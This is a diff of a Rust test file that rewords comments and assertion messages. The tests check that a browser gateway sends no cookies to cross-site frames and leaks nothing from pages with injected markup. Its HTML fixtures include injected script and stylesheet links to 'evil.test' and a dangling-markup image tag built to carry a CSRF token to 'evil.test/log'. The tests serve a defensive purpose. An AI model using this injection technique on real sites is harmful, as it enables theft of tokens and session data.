@@ -1,4 +1,4 @@
-//! What a frame of another site, or injected markup, makes the gateway fetch.
+//! Requests that frames of other sites, or markup injected into a page, cause at the gateway.
 use std::{
     collections::BTreeSet,
     net::SocketAddr,
@@ -24,14 +24,14 @@ use tempfile::NamedTempFile;
 
 use crate::pair::{Pair, Setup};
 
-/// Longest time that a page may take.
+/// Maximum duration of a page load.
 const LOAD: Duration = Duration::from_secs(60);
 /// A 1 x 1 pixel GIF.
 const PIXEL: &[u8] = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
-/// The user's bank, which displays frames of others, and those.
+/// The user's bank, which embeds frames of the other hosts.
 const HOSTS: [&str; 3] = ["bank.test", "evil.test", "third.test"];
 
-/// What a host answers, its own scheme written as `SCHEME`.
+/// The response of a host; `SCHEME` in it stands for the page's scheme.
 struct Answer {
     status: StatusCode,
     media: &'static str,
@@ -117,13 +117,13 @@ fn resource(host: &str, path: &str) -> Answer {
     }
 }
 
-/// A page with a strict policy, into which somebody wrote.
+/// A page with a strict Content Security Policy and injected markup.
 const STRICT: &str = "<!doctype html><link rel=icon href=data:,><h1>Strict</h1><link rel=stylesheet href=/own.css>
     <base href=SCHEME://evil.test/><img src=own.gif><script nonce=right src=SCHEME://bank.test/own.js></script>
     <p>injected: <script src=SCHEME://evil.test/evil.js></script><link rel=stylesheet href=SCHEME://evil.test/evil.css>
     <iframe src=SCHEME://evil.test/frame></iframe><style>p { background: url(SCHEME://bank.test/inline.gif) }</style>
     <img src='SCHEME://evil.test/log?<input name=csrf value=TOKEN><b title=''>";
-/// A page without policy, into which somebody wrote an image that is left open.
+/// A page without policy, with an injected image element that is not closed.
 const LINES: &str = "<!doctype html><link rel=icon href=data:,><h1>Lines</h1><img src=/own.gif>
     <p>injected: <img src='SCHEME://evil.test/log?
     <input name=csrf value=TOKEN><b title=''>";
@@ -151,7 +151,7 @@ fn answer(scheme: &str, request: &Request<Incoming>) -> Response<AnswerBody> {
     response.body(body).expect("a valid response")
 }
 
-/// The hosts, a pair before them, and a browser that the user is logged in with.
+/// The hosts, a pair, and a browser in which the user is logged in.
 struct World {
     scheme: &'static str,
     origin: Origin,
@@ -220,7 +220,7 @@ impl World {
         Ok(())
     }
 
-    /// What the hosts are asked for by a browser without a pair.
+    /// Requests at the hosts when a browser without a pair loads a page.
     async fn direct(&self, page: &str) -> Result<BTreeSet<String>> {
         let mut options = BrowserOptions {
             trust_spki: vec![self.authority.pin().to_owned()],
@@ -240,7 +240,7 @@ impl World {
         Ok(self.asked(before))
     }
 
-    /// What the hosts were asked for behind so many requests.
+    /// Requests at the hosts after the first `before` ones.
     fn asked(&self, before: usize) -> BTreeSet<String> {
         let seen = self.origin.seen();
         let later = seen.get(before..).unwrap_or_default();
@@ -256,7 +256,8 @@ fn field<'a>(seen: &'a Seen, name: &str) -> &'a str {
     value.unwrap_or("none")
 }
 
-/// A page with frames of others, loaded twice: what the frames name is asked for as their browser asks for it.
+/// A page with cross-site frames, loaded twice: the gateway requests their objects with the fields that the
+/// browser would use.
 async fn frames(scheme: &'static str) -> Result<()> {
     let mut world = World::start(scheme, &[]).await?;
     for _ in 0..2 {
@@ -266,7 +267,7 @@ async fn frames(scheme: &'static str) -> Result<()> {
     let own = seen
         .iter()
         .find(|seen| seen.path == "/own.gif")
-        .context("the page's own image")?;
+        .context("the image of the page was not requested")?;
     assert_eq!(field(own, "cookie"), "session=secret");
     assert!(
         seen.iter()
@@ -279,11 +280,12 @@ async fn frames(scheme: &'static str) -> Result<()> {
     let ways: BTreeSet<&str> = attacked.iter().map(|seen| seen.path.as_str()).collect();
     assert!(
         ways.len() >= 5,
-        "the browser itself asks, without cookies: {ways:?}"
+        "the browser requests it itself, without cookies: {ways:?}"
     );
     for request in attacked {
         assert_eq!(field(request, "cookie"), "none", "{request:#?}");
-        // A document of the bank's in the frame of another may say so; nobody else.
+        // A frame of the bank inside of a cross-site frame may send the bank's referrer; no other document
+        // may.
         if request.path != "/delete?by=inner" {
             assert_ne!(field(request, "sec-fetch-site"), "same-origin", "{request:#?}");
         }
@@ -303,7 +305,8 @@ async fn frames_of_other_sites_get_no_cookies_sent_over_http() -> Result<()> {
     frames("http").await
 }
 
-/// The same is asked for as without a pair, and a token of the page never leaves it.
+/// The pair causes the same requests as a browser without a pair, and a token in the page is not sent
+/// anywhere.
 async fn injected(scheme: &'static str) -> Result<()> {
     let mut world = World::start(scheme, &[]).await?;
     for (page, least) in [("bank.test/strict", 3), ("bank.test/lines", 2)] {
@@ -381,7 +384,7 @@ async fn cookies_keep_to_their_paths_and_blocked_ports_are_left_alone() -> Resul
     assert_eq!(
         callers.load(Ordering::Relaxed),
         0,
-        "a blocked port was connected to"
+        "the gateway connected to a blocked port"
     );
     Ok(())
 }
